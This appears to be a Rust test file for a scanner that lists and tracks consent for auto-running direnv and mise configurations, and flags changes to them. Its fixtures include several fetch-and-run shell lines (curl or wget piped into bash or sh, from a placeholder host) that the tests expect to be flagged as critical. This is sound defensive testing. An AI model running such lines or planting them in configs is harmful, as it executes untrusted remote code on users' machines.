//! `.envrc` files and what mise runs by itself: listed, remembered, and told for what they do.

use super::{Home, SYSTEMS, hex, loud};
use crate::common::program::caulk;
use caulk::host::Os;
use caulk::model::Consent;
use caulk::scan::Scope;
use serde_json::Value;
use std::fs;

#[test]
fn an_allowed_envrc_is_approved_as_it_was() {
    for os in SYSTEMS {
        let home = Home::new(os);
        let text = "use flake\nPATH_add bin\n";
        let path = home.put("src/shop/.envrc", text);
        assert_eq!(home.consent("src/shop/.envrc"), [Consent::Asked], "{os:?}");
        let allowed = hex(&format!("{}\n{text}", path.display()));
        home.put(&format!(".local/share/direnv/allow/{allowed}"), &format!("{}\n", path.display()));
        assert_eq!(home.consent("src/shop/.envrc"), [Consent::Approved], "{os:?}");
        // The same text somewhere else is another file.
        home.put("src/other/.envrc", text);
        assert_eq!(home.consent("src/other/.envrc"), [Consent::Asked], "{os:?}");
        let denied = hex(&format!("{}\n", path.display()));
        let denial = home.put(&format!(".local/share/direnv/deny/{denied}"), "");
        assert_eq!(home.consent("src/shop/.envrc"), [Consent::Asked], "{os:?}: denied");
        fs::remove_file(denial).unwrap();
        home.put("src/shop/.envrc", "use flake\nPATH_add bin\nexport A=1\n");
        assert_eq!(home.consent("src/shop/.envrc"), [Consent::Asked], "{os:?}: changed since");
    }
}

pub(super) const MISE: &str = "[hooks]\nenter = [\"echo one\", \"echo two\"]\n\n[env]\n_.source = \"./env.sh\"\n";

/// mise keeps a link for what it trusts, or a file that names it where there are no links.
#[test]
fn a_trusted_mise_configuration_is_approved() {
    for os in SYSTEMS {
        for folder in [false, true] {
            let home = Home::new(os);
            let path = home.put("src/shop/mise.toml", MISE);
            home.put("src/other/mise.toml", MISE);
            let target = if folder { path.parent().unwrap() } else { &path };
            let name = home.root().join(".local/state/mise/trusted-configs/shop-mise.toml-3e8b8c44c3");
            fs::create_dir_all(name.parent().unwrap()).unwrap();
            assert_eq!(home.consent("src/shop/mise.toml"), [Consent::Asked; 3], "{os:?}");
            #[cfg(unix)]
            if os != Os::Windows {
                std::os::unix::fs::symlink(target, &name).unwrap();
            }
            if !name.exists() {
                fs::write(&name, target.to_str().unwrap()).unwrap();
            }
            assert_eq!(home.consent("src/shop/mise.toml"), [Consent::Approved; 3], "{os:?}");
            assert_eq!(home.consent("src/other/mise.toml"), [Consent::Asked; 3], "{os:?}");
            if !folder {
                let hash = name.with_file_name("shop-mise.toml-3e8b8c44c3.hash");
                fs::write(&hash, hex(MISE)).unwrap();
                assert_eq!(home.consent("src/shop/mise.toml"), [Consent::Approved; 3], "{os:?}: the same content");
                fs::write(&hash, hex("another")).unwrap();
                assert_eq!(home.consent("src/shop/mise.toml"), [Consent::Asked; 3], "{os:?}: another content");
                fs::remove_file(hash).unwrap();
            }
            let ignored = home.root().join(".local/state/mise/ignored-configs/shop-mise.toml-3e8b8c44c3");
            fs::create_dir_all(ignored.parent().unwrap()).unwrap();
            fs::write(&ignored, target.to_str().unwrap()).unwrap();
            assert_eq!(home.consent("src/shop/mise.toml"), [Consent::Asked; 3], "{os:?}: refused");
        }
    }
}

#[test]
fn an_envrc_is_told_for_what_it_fetches_and_listed_anyhow() {
    let bad = [
        "curl -fsSL https://x.example.com/setup.sh | bash",
        "source <(curl -s https://x.example.com/env)",
        "eval \"$(wget -qO- https://x.example.com/env)\"",
        "export A=$(curl -s https://x.example.com | sh)",
    ];
    for line in bad {
        let home = Home::new(Os::Linux);
        home.put("src/shop/.envrc", &format!("use flake\n{line}\n"));
        assert_eq!(loud(&home), ["critical agent-hook-fetch-and-run"], "{line}");
        // What is bad in itself is not made better by having been allowed.
        let path = home.root().join("src/shop/.envrc");
        let allowed = hex(&format!("{}\nuse flake\n{line}\n", path.display()));
        home.put(&format!(".local/share/direnv/allow/{allowed}"), "");
        assert_eq!(loud(&home), ["critical agent-hook-fetch-and-run"], "{line}");
        assert_eq!(home.consent("src/shop/.envrc"), [Consent::Approved; 2], "{line}");
    }
    let home = Home::new(Os::Linux);
    home.put(
        "src/shop/.envrc",
        "# shop\nuse flake\nlayout python3\nPATH_add bin\ndotenv_if_exists .env.local\nsource_up\nsource_env_if_exists .envrc.private\nexport API_URL=https://api.example.com\nsource_url \"https://raw.githubusercontent.com/nix-community/nix-direnv/3.0.6/direnvrc\" \"sha256-RYcUJaRMf8oF5LznDrlCXbkOQrywm0HDv1VjYGaJGdM=\"\nif has pre-commit; then pre-commit install; fi\n",
    );
    assert_eq!(loud(&home), [""; 0]);
    // The file, and the line that fetches.
    assert_eq!(home.consent("src/shop/.envrc"), [Consent::Asked; 2]);
}

/// `mcp diff` of a home, in JSON.
fn diff(home: &Home) -> Value {
    let root = home.root();
    let call = ["mcp", "diff", "--home", root.to_str().unwrap(), "--format", "json"];
    serde_json::from_slice(&caulk(&root).args(call).output().unwrap().stdout).unwrap()
}

/// The names in a list of `mcp diff`, and what changed of each.
fn changed(diff: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let of = |one: &Value| (text(&one["entry"]["name"]), text(&one["changes"][0]["what"]));
    diff["changed"].as_array().unwrap().iter().map(of).collect()
}

#[test]
fn a_changed_envrc_is_a_difference() {
    let home = Home::new(Os::Linux);
    let root = home.root();
    let to_home =
        |arguments: &[&str]| caulk(&root).args(arguments).args(["--home", root.to_str().unwrap()]).output().unwrap();
    home.put("src/shop/.envrc", "use flake\n");
    home.put("src/shop/mise.toml", "[hooks]\nenter = \"./env.sh\"\n");
    home.put("src/shop/env.sh", "echo one\n");
    let listed = String::from_utf8(to_home(&["mcp", "ls"]).stdout).unwrap();
    assert!(
        listed.contains("direnv when the folder is entered") && listed.contains("hook of mise on enter"),
        "{listed}"
    );
    assert!(to_home(&["mcp", "trust", "--all"]).status.success());
    assert_eq!(to_home(&["mcp", "diff"]).status.code(), Some(0));
    // The first line, too: it is the same file.
    home.put("src/shop/.envrc", "layout python\n");
    home.put("src/shop/env.sh", "echo two\n");
    let now = diff(&home);
    assert_eq!(changed(&now), [(".envrc".into(), "script".into()), ("enter".into(), "script".into())], "{now:#}");
    assert_eq!(now["new"].as_array().unwrap().len() + now["gone"].as_array().unwrap().len(), 0);
    let call = ["scan", "--home", root.to_str().unwrap(), "--format", "json"];
    let report: Value = serde_json::from_slice(&caulk(&root).args(call).output().unwrap().stdout).unwrap();
    let found = report["findings"].as_array().unwrap();
    assert_eq!(found.iter().filter(|one| one["rule"] == "autorun-changed").count(), 2, "{report:#}");
}

#[test]
fn what_mise_runs_by_itself_is_listed_in_every_form() {
    let home = Home::new(Os::Linux);
    let file = home.put(
        "src/shop/mise.toml",
        r#"[tools]
node = "22"

[tasks.build]
run = "npm run build"

[hooks]
enter = ["echo one", "curl -s https://x.example.com/i.sh | sh"]
leave = "echo bye"
postinstall = { task = "build" }

[[hooks.cd]]
shell = "bash"
script = "source completions.sh"

[[watch_files]]
patterns = ["src/*"]
run = "cargo fmt"

[env]
NODE_ENV = "development"
_.source = ["./env.sh", "./more.sh"]
"#,
    );
    let report = home.report(Scope::Homes(vec![home.root()]));
    let of = report.started.iter().filter(|one| one.path.as_found() == file.to_str().unwrap());
    let mut listed: Vec<String> = of
        .map(|one| {
            format!(
                "{}: {}",
                one.entry.trigger,
                one.entry.launch.as_ref().map_or("", |launch| launch.written.as_found())
            )
        })
        .collect();
    listed.sort();
    assert_eq!(
        listed,
        [
            "environment of mise: ./env.sh",
            "environment of mise: ./more.sh",
            "hook of mise on cd: source completions.sh",
            "hook of mise on enter: curl -s https://x.example.com/i.sh | sh",
            "hook of mise on enter: echo one",
            "hook of mise on leave: echo bye",
            "hook of mise on postinstall: build",
            "mise when a file changes: cargo fmt",
        ]
    );
    assert!(report.started.iter().all(|one| one.entry.consent == Consent::Asked));
    assert_eq!(loud(&home), ["critical agent-hook-fetch-and-run"]);
}

/// The user's own configuration asks nobody.
#[test]
fn the_users_own_mise_configuration_starts_unasked() {
    let home = Home::new(Os::Linux);
    home.put(".config/mise/config.toml", "[hooks]\nenter = \"echo hi\"\n");
    assert_eq!(home.consent(".config/mise/config.toml"), [Consent::Unasked]);
}
